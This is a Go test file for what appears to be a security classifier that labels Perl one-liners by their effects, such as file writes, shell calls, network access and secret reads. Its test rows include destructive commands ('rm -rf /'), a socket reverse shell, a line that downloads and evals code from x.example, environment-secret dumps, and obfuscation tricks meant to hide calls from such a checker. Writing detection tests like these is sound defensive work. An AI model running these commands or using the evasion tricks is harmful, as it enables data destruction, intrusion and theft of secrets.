package code

import (
	"strings"
	"testing"
	"time"

	"github.com/gk-hook/gk-hook/classify/samples"
	"github.com/gk-hook/gk-hook/classify/spec"
)

// flatRow is source with what it does; loops is for the flags -n and -p.
type flatRow struct {
	code, want string
	loops      bool
}

func judgeRows(t *testing.T, lang spec.Lang, rows []flatRow) {
	t.Helper()
	for _, tt := range rows {
		got := describe(Judge(lang, tt.code, Options{Home: "/home/u", Loops: tt.loops}))
		if got != tt.want {
			t.Errorf("Judge(%q)\n got %s\nwant %s", tt.code, got, tt.want)
		}
	}
}

// purePerl computes and prints.
var purePerl = []flatRow{
	{`print "hello\n"`, "-", false},
	{`s/a/b/g`, "-", true},
	{`print if /x/`, "-", true},
	{`print $F[0]`, "-", true},
	{`print "$F[0] $F[-1]\n"`, "-", true},
	{`$s += $_; END { print $s }`, "-", true},
	{`$s+=$_}{print $s`, "-", true},
	{`print join(",", map { $_ * 2 } grep { $_ % 2 } 1..10), "\n"`, "-", false},
	{`my %h; $h{$_}++ for qw(a b a); print "$_=$h{$_}\n" for sort keys %h;`, "-", false},
	{`printf "%.2f\n", 1/3`, "-", false},
	{`tr/a-z/A-Z/`, "-", true},
	{`y/a/b/; s{x}{y}g; print unless m#^/usr#`, "-", true},
	{`use strict; use warnings; my @a = (3,1,2); print "@{[sort { $a <=> $b } @a]}\n";`, "?", false},
	{`use List::Util qw(sum max); print sum(1,2,3), max(1,2)`, "-", false},
	{`use POSIX; print floor(1.5), strftime("%Y", localtime)`, "-", false},
	{`use JSON::PP; print JSON::PP->new->pretty->canonical->encode(decode_json(join "", <STDIN>))`, "-", false},
	{`sub f { my ($n) = @_; return $n < 2 ? $n : f($n-1) + f($n-2) } print f(10)`, "-", false},
	{`print "=" x 20, "-"x80, "\n"`, "-", false},
	{`while (<STDIN>) { chomp; my @f = split /\t/; print $f[1] if @f > 1 }`, "-", false},
	{`print "system('rm -rf /')\n"; # unlink "x"`, "-", false},
	{`print time - 10, " ", scalar(localtime), "\n"`, "-", false},
	{`print "$ENV{HOME}\n"`, "-", false},
	{`s/(\w+)/ucfirst($1)/ge`, "-", true},
	{`print <<"EOT";` + "\nhello $0\nEOT\n", "-", false},
	{`my $x = "abc"; print length($x), substr($x, 0, 1), reverse $x`, "-", false},
	{`$/ = undef; $_ = <STDIN>; print scalar(() = /x/g)`, "-", false},
	{`print "ok" if 5 / 2 > 2`, "-", false},
	{`for my $i (1..3) { next if $i == 2; print $i }`, "-", false},
	{`BEGIN { $| = 1 } print "$.: $_"`, "-", true},
	{`eval { die "x" }; print $@ if $@`, "-", false},
	{`print sprintf("%s", join " ", @ARGV)`, "-", false},
	{`$h{$1}{n}++ if /(\d+)/; END { print "$_ $h{$_}{n}\n" for keys %h }`, "-", true},
	{`use Data::Dumper; print Dumper({a => 1, b => [1, 2]})`, "-", false},
}

func TestPerl(t *testing.T) {
	rows := append([]flatRow(nil), purePerl...)
	judgeRows(t, spec.Perl, append(rows, []flatRow{
		// files
		{`open(F, "<", "a.txt"); print <F>`, "read:a.txt", false},
		{`open F, "a.txt" or die; print while <F>`, "read:a.txt", false},
		{`open(my $fh, '>', "a"); print $fh "x"`, "write:a", false},
		{`open(F, ">>a")`, "append:a", false},
		{`open(F, ">a")`, "write:a", false},
		{`open(F, "rm -rf / |")`, "shell:rm -rf / ", false},
		{`open(F, "| sh")`, "shell:sh", false},
		{`open(F, "-|", "rm", "-rf", "/")`, "run:rm:-rf:/", false},
		{`open(F, $ARGV[0])`, "? read:…", false},
		{`unlink "a", "b"`, "delete:a delete:b", false},
		{`unlink qw(a b)`, "delete:a delete:b", false},
		{`unlink glob "*"`, "delete:… list:*", false},
		{`my $d = "/"; use File::Path; rmtree($d)`, "delete-all:/", false},
		{`rename "a", "b"`, "move:a replace:b", false},
		{`chmod 0777, "a"`, "change:a", false},
		{`mkdir "a"; rmdir "a"`, "create:a delete:a", false},
		{`print -s "a"`, "list:a", false},
		{`opendir(D, "."); print readdir D`, "list:.", false},
		{`while (<>) { print }`, "-", false},
		// programs
		{`system("rm -rf /")`, "shell:rm -rf /", false},
		{`system "rm", "-rf", "/"`, "run:rm:-rf:/", false},
		{`exec("/bin/sh")`, "shell:/bin/sh", false},
		{"print `id`", "shell:id", false},
		{`print qx{rm -rf /}`, "shell:rm -rf /", false},
		{`my $c = "rm -rf /"; system($c)`, "shell:rm -rf /", false},
		{`system("rm -rf " . "/")`, "shell:rm -rf /", false},
		{`system qw(rm -rf /)`, "run:rm:-rf:/", false},
		{`system({ "sh" } "x", "-c", "id")`, "? run:…:-c:id", false},
		{`s/x/system("id")/e`, "shell:id", true},
		{`POSIX::system("id")`, "shell:id", false},
		{`CORE::system("id")`, "shell:id", false},
		{`kill 9, -1`, "signal:-1", false},
		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1,inet_aton("h"))); open(STDIN,">&S"); exec("/bin/sh ` +
			`-i")`, "network ? shell:/bin/sh -i reverse-shell", false},
		{`use LWP::Simple; eval get("http://x.example/a")`, "network downloaded ? fetch:http://x.example/a", false},
		{`print $ENV{API_TOKEN}`, "secret", false},
		{`print %ENV`, "secret", false},
		{`$ENV{LD_PRELOAD} = "/tmp/x.so"`, "env:LD_PRELOAD=/tmp/x.so", false},
		// not seen through
		{`eval "system('id')"`, "shell:id ?", false},
		{`use MIME::Base64; eval decode_base64("cHJpbnQgMQ==")`, "decoded ?", false},
		{`eval pack("H*", "7072696e742031")`, "decoded ?", false},
		{`use MIME::Base64; system(decode_base64("aWQ="))`, "decoded ? shell:…", false},
		{`eval join "", map { chr } 112, 114`, "decoded ?", false},
		{`eval $x`, "?", false},
		{`s/x/$y/ee`, "?", true},
		{`/(?{ system("id") })/`, "?", true},
		{`/(??{ $x })/`, "?", true},
		{`&$f("id")`, "?", false},
		{`&{"system"}("id")`, "?", false},
		{`$f->("id")`, "?", false},
		{`my $f = \&CORE::system; $f->("id")`, "?", false},
		{`"POSIX"->can("system")->("id")`, "?", false},
		{`use POSIX; $SIG{__WARN__} = "POSIX::system"; warn "id"`, "?", false},
		{`*f = *CORE::system`, "?", false},
		{`@ARGV = ("rm -rf /|"); while (<>) {}`, "?", false},
		{`push @ARGV, "id|"; print <>`, "?", false},
		{`print "@{[system('id')]}"`, "?", false},
		{`print "${\ system('id')}"`, "?", false},
		{`print "$x[system('id')]"`, "?", false},
		{`do "x.pl"`, "load:x.pl ?", false},
		{`require "x.pl"`, "builds ?", false},
		{`use lib "/tmp/x"; use Foo`, "load:/tmp/x builds", false},
		{`use Foo::Bar`, "builds", false},
		{`frobnicate(1)`, "?", false},
		{`max / system("id") / 1`, "?", false},
		{`print say / system("id") / 1`, "?", false},
		{`do { 1 } / system("id") / 1`, "?", false},
		{`%h = (a => 1); print $h{a} / system("id") / 1`, "shell:id", false},
		{`print q #x# ; system "id"`, "?", false},
		{"=pod\n\n=cut\nsystem 'id'", "?", false},
		{`sort $f @x`, "?", false},
		{`syscall(1)`, "?", false},
		{`use re "eval"; /$x/`, "?", false},
		{`use English; $INPLACE_EDIT = ""`, "?", false},
		{`use parent "Foo"`, "?", false},
		{`tie %h, "X"`, "?", false},
		{`$^I = ""; @x = <>`, "?", false},
		{`require IO::File; IO::File->new("x", "w")`, "builds ?", false},
		{`$h{x}("id")`, "?", false},
		{`use B; B::svref_2object(1)`, "?", false},
		{`local *STDOUT`, "?", false},
		{`rm -rf /`, "?", false},
		{`$x->system("id")`, "?", false},
		{`$m = "system"; $x->$m("id")`, "?", false},
		{`chdir "/"; unlink "etc"`, "? delete:etc delete://etc", false},
		{`format STDOUT =` + "\n@<<\nsystem('id')\n.\nwrite", "?", false},
	}...))
}

// TestFlatBounds feeds sources that would take very long, or run out of stack,
// in a reader that follows them without bounds.
func TestFlatBounds(t *testing.T) {
	size := 200_000
	if testing.Short() {
		size = 5_000
	}
	for _, unit := range []string{"(", "{", "[", "$a = $a . 'x';", "system(", "unlink 'a',", "s/a/b/;", "\"$a\" . ", "<<A;\n", "`a`;", "eval(", "a.b.c ",
		"#{", "\"#{", "q(", "/", "f(f(", "$x=[", "%w(", "\\", "--[[", "<?php ", "x ", "eval 'eval '"} {
		src := strings.Repeat(unit, size/len(unit))
		for _, lang := range []spec.Lang{spec.Perl, spec.Ruby, spec.PHP, spec.Lua} {
			start := time.Now()
			Judge(lang, src, Options{})
			t.Logf("%q in %s: %v", unit, LangName(lang), time.Since(start))
		}
	}
}

func FuzzPerl(f *testing.F) {
	for _, source := range samples.Of(f, "perl") {
		f.Add(source)
	}
	f.Add(`my @a = map { s/x/y/er } <STDIN>; print "$a[0] @{$b}{c} $$d->[1]\n" if $a =~ m{z}x;`)
	f.Add("print <<A . <<~'B', qw(a b);\na $b\nA\n  c\n  B\nopen(F, '-|', 'x') or die $!")
	f.Fuzz(func(t *testing.T, text string) {
		Judge(spec.Perl, text, Options{Home: "/home/u", Loops: true})
		hidesNothing(t, spec.Perl, "unlink 'zzz';\n", text)
	})
}
